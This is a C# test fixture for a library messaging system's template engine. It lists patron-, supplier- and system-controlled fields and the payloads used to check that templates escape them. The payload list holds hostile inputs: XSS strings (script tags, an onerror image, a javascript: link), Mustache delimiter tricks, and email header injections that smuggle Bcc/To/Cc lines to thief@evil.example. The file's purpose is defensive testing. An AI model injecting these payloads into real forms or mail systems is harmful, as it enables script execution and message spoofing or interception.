namespace Comms.Tests.Security;

/// <summary>
/// A text that someone outside the engine controls: a patron or contact (names), a supplier (its name), the
/// library system (titles, barcodes, reasons, order details) or the library (its name). <see cref="Tag"/>
/// starts every value the field is given, so each field can be found, or proved absent, on its own.
/// <see cref="Paths"/> are the model variables that show it (in the catalogue's notation, lists with "[]").
/// </summary>
public sealed record HostileField(string Tag, string Name, IReadOnlyList<string> Paths, string? FixedValue = null)
{
    public string ValueFor(string payload) => FixedValue ?? $"{Tag} {payload}";

    public override string ToString() => $"{Name} ({Tag})";
}

/// <summary>The payloads and fields the template safety tests put into every scenario.</summary>
public static class HostileValues
{
    /// <summary>Markup, attribute break-outs, Mustache-looking text and header injections.</summary>
    public static readonly IReadOnlyList<string> Payloads =
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "\"><a href=\"javascript:alert(1)\">click</a>",
        "' onmouseover='alert(1)' x='",
        "{{{recipient.name}}} {{& patron.name}} {{#items}}loop{{/items}} {{=<% %>=}}",
        "Ann\r\nBcc: thief@evil.example",
        "X\nSubject: spoofed",
        "Y\r\n\r\n<script>alert(2)</script>",
        "Z\rTo: thief@evil.example\u0085Cc: thief@evil.example\u2028Reply-To: thief@evil.example",
    ];

    public static readonly HostileField LibraryName = new("k01", "library name", ["library.name"]);
    public static readonly HostileField PatronName = new("k02", "patron name", ["patron.name", "patrons[].name"]);
    public static readonly HostileField PatronGroup = new("k03", "patron group", ["patron.group", "patrons[].group", "classes[].name"]);
    public static readonly HostileField ContactName = new("k04", "contact name", ["recipient.name"]);
    public static readonly HostileField SupplierName = new("k05", "supplier name", ["order.supplierName", "recipient.name"]);
    public static readonly HostileField LoanTitle = new("k06", "loan title", ["items[].title", "patrons[].items[].title", "charges.lines[].title", "renewals.items[].title"]);
    public static readonly HostileField LoanAuthor = new("k07", "loan author", ["items[].author", "patrons[].items[].author", "charges.lines[].author", "renewals.items[].author"]);
    public static readonly HostileField LoanBarcode = new("k08", "loan barcode", ["items[].barcode", "patrons[].items[].barcode", "charges.lines[].barcode", "renewals.items[].barcode"]);
    public static readonly HostileField ReservationTitle = new("k09", "reservation title", ["reservation.title"]);
    public static readonly HostileField ReservationAuthor = new("k10", "reservation author", ["reservation.author"]);
    public static readonly HostileField PickupLocation = new("k11", "pickup location", ["reservation.pickupLocation"]);
    public static readonly HostileField CancelReason = new("k12", "reservation reason", ["reservation.reason"]);
    public static readonly HostileField RecallReason = new("k13", "recall reason", ["recall.reason"]);
    public static readonly HostileField OrderNumber = new("k14", "order number", ["order.number"]);
    public static readonly HostileField Currency = new("k15", "order currency", ["order.currency"]);
    public static readonly HostileField DeliveryAddress = new("k16", "delivery address", ["order.deliveryAddress"]);
    public static readonly HostileField OrderLineTitle = new("k17", "order line title", ["order.lines[].title"]);
    public static readonly HostileField Isbn = new("k18", "order line ISBN", ["order.lines[].isbn"]);

    /// <summary>Order notes are kept with the order but are not in any template's model: they must never show.</summary>
    public static readonly HostileField OrderNotes = new("k19", "order notes", []);

    /// <summary>A link is a URI, so it cannot carry raw markup or line breaks; the engine must still escape its query.</summary>
    public static readonly HostileField ResetLink = new(
        "k20",
        "reset link",
        ["reset.link"],
        new Uri("https://catalogue.example.org/reset?k20=1&next=\"><script>alert(1)</script>&x='y'").AbsoluteUri);

    public static readonly IReadOnlyList<HostileField> All =
    [
        LibraryName, PatronName, PatronGroup, ContactName, SupplierName, LoanTitle, LoanAuthor, LoanBarcode,
        ReservationTitle, ReservationAuthor, PickupLocation, CancelReason, RecallReason, OrderNumber, Currency,
        DeliveryAddress, OrderLineTitle, Isbn, OrderNotes, ResetLink,
    ];

    /// <summary>
    /// Model variables the builder fills from the engine's own data (addresses it validated, dates, counts,
    /// amounts, the role, the level): nothing outside can put markup or line breaks into them.
    /// </summary>
    public static readonly IReadOnlySet<string> FormattedByTheEngine = new HashSet<string>(StringComparer.Ordinal)
    {
        "library.fromAddress", "recipient.role", "items[].dueDate", "items[].daysOverdue", "items[].daysOverdueText", "reservation.pickupBy",
        "order.total", "order.lines[].quantity", "order.lines[].unitPrice", "order.lines[].lineTotal",
        "reset.expiresAt", "recall.newDueDate", "escalation.level",
        "patrons[].itemCount", "patrons[].items[].dueDate", "patrons[].items[].daysOverdue", "patrons[].items[].daysOverdueText",
        "classes[].patrons", "classes[].items", "totals.patrons", "totals.items", "totals.classes", "totals.unlisted",
        "digest.personal", "digest.household", "digest.classList", "digest.summary", "digest.listsPatrons",
        "step.preOverdue", "step.overdue", "step.escalation", "step.level", "digest.weekly",
        "levels[].step", "levels[].level", "levels[].preOverdue", "levels[].overdue", "levels[].escalation", "levels[].patrons", "levels[].items",
        "charges.lines[].dueDate", "charges.lines[].replacementCost", "charges.lines[].fee", "charges.lines[].amount", "charges.anyLines",
        "charges.total", "charges.remaining", "charges.paid", "charges.balance", "charges.currency",
        "renewals.anyRenewed", "renewals.anyNotRenewed", "renewals.anyFinalRenewal", "renewals.items[].dueDate", "renewals.items[].previousDueDate",
        "renewals.items[].renewed", "renewals.items[].finalRenewal", "renewals.items[].notRenewed", "renewals.items[].reason",
        "renewals.items[].tooManyRenewals", "renewals.items[].reserved", "renewals.items[].patronBlocked", "card.expiresOn",
    };

    /// <summary>
    /// The variables that show a field in one message. "recipient.name" is the contact the copy goes to; one
    /// BCC message for a household greets the patron instead, and a supplier's BCC message greets nobody.
    /// </summary>
    public static IReadOnlyList<string> PathsOf(HostileField field, bool supplierScenario, bool household)
    {
        var recipient = (supplierScenario, household) switch
        {
            (true, true) => null,
            (true, false) => SupplierName,
            (false, true) => PatronName,
            (false, false) => ContactName,
        };
        var paths = field.Paths.Where(p => p != "recipient.name");
        return field == recipient ? [.. paths, "recipient.name"] : [.. paths];
    }
}
